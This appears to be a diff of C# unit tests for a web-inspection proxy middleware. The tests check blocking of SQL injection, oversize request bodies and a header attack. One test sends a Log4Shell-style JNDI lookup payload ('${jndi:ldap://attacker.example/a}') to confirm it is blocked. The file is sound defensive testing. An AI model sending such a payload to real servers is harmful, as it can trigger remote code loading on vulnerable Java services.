@@ -20,9 +20,10 @@ public sealed class InspectionMiddlewareTests
         Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
         Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
         var body = await response.Content.ReadAsStringAsync();
-        Assert.DoesNotContain("UNION", body, StringComparison.OrdinalIgnoreCase);
+        Assert.DoesNotContain("password FROM users", body, StringComparison.OrdinalIgnoreCase);
         using var problem = JsonDocument.Parse(body);
         Assert.Equal(403, problem.RootElement.GetProperty("status").GetInt32());
+        Assert.Contains(problem.RootElement.GetProperty("errors").EnumerateArray(), e => e.GetString() == "sqli-union-select");
         var telemetry = await h.LastTelemetryAsync(1);
         Assert.NotNull(telemetry.Inspection);
         Assert.Equal("block", telemetry.Inspection!.Action);
@@ -93,6 +94,44 @@ public sealed class InspectionMiddlewareTests
 
         Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
         Assert.True((await h.LastTelemetryAsync(1)).Inspection!.Truncated);
+    }
+
+    [Fact]
+    public async Task Oversize_body_is_refused_when_the_route_says_block()
+    {
+        await using var h = await ProxyHarness.StartAsync();
+        h.Routes.Routes["api"] = new SidecarRouteOptions
+        {
+            Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block, MaxBodyBytes = 1024, OversizeBody = OversizeBodyActions.Block },
+        };
+        var json = "{\"pad\":\"" + new string('a', 4000) + "\"}";
+
+        var response = await h.Client.PostAsync("/upload", new StringContent(json, Encoding.UTF8, "application/json"));
+
+        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
+        Assert.Contains("protocol-body-uninspected-block", (await h.LastTelemetryAsync(1)).Inspection!.Rules);
+        Assert.Empty(h.Upstream);
+    }
+
+    [Fact]
+    public async Task Attack_in_an_application_header_is_blocked_and_the_paranoia_level_reaches_the_engine()
+    {
+        await using var h = await ProxyHarness.StartAsync();
+        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Block } };
+        using var attack = new HttpRequestMessage(HttpMethod.Get, "/search?q=shoes");
+        attack.Headers.TryAddWithoutValidation("X-Tenant-Filter", "${jndi:ldap://attacker.example/a}");
+
+        var blocked = await h.Client.SendAsync(attack);
+
+        Assert.Equal(HttpStatusCode.Forbidden, blocked.StatusCode);
+        Assert.Contains("java-jndi-lookup", (await h.LastTelemetryAsync(1)).Inspection!.Rules);
+
+        // The harness connects to 127.0.0.1: a numeric Host is a paranoia-level-2 rule, recorded only at level 2.
+        h.Routes.Routes["api"] = new SidecarRouteOptions { Inspection = new RouteInspectionOptions { Mode = InspectionModes.Detect, ParanoiaLevel = 2 } };
+        var allowed = await h.Client.GetAsync("/search?q=shoes");
+
+        Assert.Equal(HttpStatusCode.OK, allowed.StatusCode);
+        Assert.Contains("protocol-numeric-host", (await h.LastTelemetryAsync(2)).Inspection!.Rules);
     }
 
     [Fact]
